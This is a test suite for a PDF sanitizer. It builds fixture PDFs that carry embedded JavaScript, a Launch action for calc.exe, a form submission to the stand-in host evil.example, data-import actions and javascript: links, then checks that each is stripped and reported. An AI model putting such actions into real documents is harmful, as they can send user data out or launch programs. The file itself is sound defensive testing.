/**
 * Sanitizing PDFs (plugins/pdf/review/sanitize.ts): a hand-written PDF with a script or a harmful action in every
 * place a PDF keeps them loses each one, named in `removed`, while its links to web addresses and the text of every
 * page stay; poppler, which runs none of it, finds no script left; a clean file comes back as the same bytes.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import * as mupdf from "mupdf";
import { ExtractRefused } from "../../../../core/contracts/extract.ts";
import { inspectPdf, sanitizePdf } from "../../../../plugins/pdf/review/index.ts";
import { corpusFile } from "../../../renderers/support.ts";
import { firstExtra, pdfinfo, popplerPageText, stream, textPdf } from "./support.ts";

const ctx = { fonts: new Set<string>() };
const latin1 = (bytes: Uint8Array) => new TextDecoder("latin1").decode(bytes);
const js = (code: string) => `<</S /JavaScript /JS (${code.replace(/[()]/g, (c) => `\\${c}`)})>>`;

/** Two pages with scripts and actions everywhere; the numbers in the comments are object numbers. */
const armedPdf = (): Uint8Array => {
  const x = firstExtra(2); // 8
  const ref = (n: number) => `${x + n} 0 R`;
  const extra = [
    /* 8 */ js("app.alert('open')"),
    /* 9 */ `<</S /JavaScript /JS ${ref(2)}>>`,
    /* 10 */ stream("app.alert('from a stream');"),
    /* 11 */ `<</Type /Annot /Subtype /Link /Rect [72 700 200 720] /A ${js("app.alert('link')")}>>`,
    /* 12 */ `<</Type /Annot /Subtype /Link /Rect [72 700 200 720] /A <</S /Launch /F (calc.exe)>>>>`,
    /* 13 */ `<</Type /Annot /Subtype /Link /Rect [72 650 200 670] /A <</S /URI /URI (https://example.com/kept) /Next ${js("app.alert('next')")}>>>>`,
    /* 14 */ `<</Type /Annot /Subtype /Widget /FT /Tx /T (Total) /Rect [300 700 400 720] /P 4 0 R /AA <</C ${js("event.value = 1")} /K ${js("event.rc = true")}>>>>`,
    /* 15 */ `<</Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Send) /Rect [300 650 400 670] /P 4 0 R /A <</S /SubmitForm /F <</FS /URL /F (https://evil.example/collect)>>>>>>`,
    /* 16 */ `<</Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Load) /Rect [300 600 400 620] /P 4 0 R /A <</S /ImportData /F (data.fdf)>>>>`,
    /* 17 */ `<</Type /Outlines /First ${ref(10)} /Last ${ref(10)} /Count 1>>`,
    /* 18 */ `<</Title (Intro) /Parent ${ref(9)} /A ${js("app.alert('bookmark')")}>>`,
    /* 19 */ `<</Type /Annot /Subtype /Link /Rect [72 600 200 620] /A <</S /URI /URI (javascript:alert\\(4\\))>>>>`,
    /* 20 */ `<</Type /Annot /Subtype /Link /Rect [72 550 200 570] /A <</S /URI /URI (https://quire.example/)>>>>`,
  ];
  return textPdf([["Armed page one", "Total and Send are fields"], ["Armed page two"]], {
    catalog: `/OpenAction ${ref(0)} /AA <</WP ${js("app.alert('print')")}>> /Names <</JavaScript <</Names [(init) ${ref(1)}]>>>> /AcroForm <</Fields [${ref(6)} ${ref(7)} ${ref(8)}]>> /Outlines ${ref(9)}`,
    pageExtra: (page) =>
      page === 1
        ? `/AA <</O ${js("app.alert('page')")}>> /Annots [${ref(3)} ${ref(5)} ${ref(6)} ${ref(7)} ${ref(8)} ${ref(11)} ${ref(12)}]`
        : `/Annots [${ref(4)}]`,
    extra,
  });
};

const linkUris = (pdf: Uint8Array): string[] => {
  const doc = new mupdf.PDFDocument(pdf);
  try {
    const uris: string[] = [];
    for (let i = 0; i < doc.countPages(); i++) {
      const page = doc.loadPage(i);
      uris.push(...page.getLinks().map((l) => l.getURI()));
      page.destroy();
    }
    return uris;
  } finally {
    doc.destroy();
  }
};

describe("sanitizePdf", () => {
  test("removes every script and harmful action, naming each", async () => {
    const armed = armedPdf();
    const { bytes, removed } = await sanitizePdf(armed, ctx);
    assert.deepEqual(removed, [
      "JavaScript run when the document opens",
      "JavaScript run before the document is printed",
      'JavaScript run when the document opens (script "init")',
      "JavaScript run when page 1 opens",
      "JavaScript on page 1 link",
      "JavaScript on page 1 link",
      "JavaScript on form field Total (calculate)",
      "JavaScript on form field Total (keystroke)",
      "form submission (SubmitForm) on form field Send",
      "form data import (ImportData) on form field Load",
      "JavaScript on page 1 link",
      "Launch action on page 2 link",
      'JavaScript in bookmark "Intro"',
    ]);
    // Gone from the bytes, not only unreachable: mupdf writes objects uncompressed and drops unreferenced ones.
    const text = latin1(bytes);
    for (const gone of ["app.alert", "/JavaScript", "/JS", "/Launch", "calc.exe", "/SubmitForm", "evil.example", "/ImportData", "javascript:"]) {
      assert.ok(!text.includes(gone), `"${gone}" is still in the file`);
    }
    // Nothing else went: the links to web addresses, the fields, the bookmark.
    assert.deepEqual(linkUris(bytes).filter((u) => u.startsWith("https:")).sort(), ["https://example.com/kept", "https://quire.example/"]);
    assert.match(text, /\(Total\)/);
    assert.match(text, /\(Intro\)/);
  });

  test("poppler sees the scripts before and none after, and reads the same text", async () => {
    const armed = armedPdf();
    const { bytes } = await sanitizePdf(armed, ctx);
    assert.match(pdfinfo(armed, ["-js"]).stdout, /app\.alert\('from a stream'\)/);
    const after = pdfinfo(bytes, ["-js"]);
    assert.equal(after.status, 0);
    assert.doesNotMatch(after.stdout, /app\.alert|event\./);
    assert.match(pdfinfo(bytes).stdout, /^JavaScript:\s+no$/m);
    for (const page of [1, 2]) assert.equal(popplerPageText(bytes, page), popplerPageText(armed, page));
  });

  test("the text of every page is the same, and inspect finds nothing active left", async () => {
    const armed = armedPdf();
    const before = await inspectPdf(armed, ctx);
    assert.ok(before.findings.some((f) => f.code === "pdf.active_content"));
    const { bytes } = await sanitizePdf(armed, ctx);
    const after = await inspectPdf(bytes, ctx);
    assert.deepEqual(after.content, before.content);
    assert.deepEqual(after.content, ["Armed page one Total and Send are fields", "Armed page two"]);
    assert.equal(after.findings.filter((f) => f.code === "pdf.active_content").length, 0);
  });

  test("a harmful action first takes its chain with it; a safe one keeps its place", async () => {
    const x = firstExtra(1);
    const pdf = textPdf([["Chains"]], {
      pageExtra: () => `/Annots [${x} 0 R ${x + 1} 0 R]`,
      extra: [
        `<</Type /Annot /Subtype /Link /Rect [0 0 10 10] /A <</S /Launch /F (a.exe) /Next <</S /URI /URI (https://a.example/)>>>>>>`,
        `<</Type /Annot /Subtype /Link /Rect [0 20 10 30] /A <</S /URI /URI (https://b.example/) /Next [${js("1")} <</S /URI /URI (https://c.example/)>> <</S /ImportData /F (x.fdf)>>]>>>>`,
      ],
    });
    const { bytes, removed } = await sanitizePdf(pdf, ctx);
    assert.deepEqual(removed, ["Launch action on page 1 link", "JavaScript on page 1 link", "form data import (ImportData) on page 1 link"]);
    const text = latin1(bytes);
    assert.ok(!text.includes("a.example") && !text.includes("/Launch") && !text.includes("/ImportData"));
    assert.match(text, /https:\/\/b\.example\/[\s\S]*https:\/\/c\.example\//);
  });

  test("a clean PDF comes back as the very same bytes", async () => {
    for (const pdf of [textPdf([["Nothing to see"]]), corpusFile("pdf", "016-libre-office-link-libre-office-link.pdf")]) {
      const result = await sanitizePdf(pdf, ctx);
      assert.deepEqual(result.removed, []);
      assert.equal(result.bytes, pdf);
    }
  });

  test("an encrypted PDF that opens without a password stays encrypted once its scripts are gone", async () => {
    const doc = new mupdf.PDFDocument(textPdf([["Locked but readable"]], { catalog: `/OpenAction ${firstExtra(1)} 0 R`, extra: [js("app.alert(1)")] }));
    const buffer = doc.saveToBuffer("encrypt=aes-128,owner-password=owner,permissions=-3904");
    const encrypted = buffer.asUint8Array().slice();
    buffer.destroy();
    doc.destroy();
    const { bytes, removed } = await sanitizePdf(encrypted, ctx);
    assert.deepEqual(removed, ["JavaScript run when the document opens"]);
    const info = pdfinfo(bytes).stdout;
    assert.match(info, /^Encrypted:\s+yes \(print:no copy:no/m);
    assert.deepEqual((await inspectPdf(bytes, ctx)).content, ["Locked but readable"]);
  });

  test("a password-protected PDF is refused", async () => {
    await assert.rejects(sanitizePdf(corpusFile("pdf", "005-libreoffice-writer-password-libreoffice-writer-password.pdf"), ctx), (error: unknown) => {
      assert.ok(error instanceof ExtractRefused);
      assert.equal(error.code, "file_rejected");
      assert.match(error.message, /password/);
      return true;
    });
  });

  test("bytes mupdf cannot open come back untouched", async () => {
    const junk = new TextEncoder().encode("not a PDF at all");
    assert.deepEqual(await sanitizePdf(junk, ctx), { bytes: junk, removed: [] });
  });
});
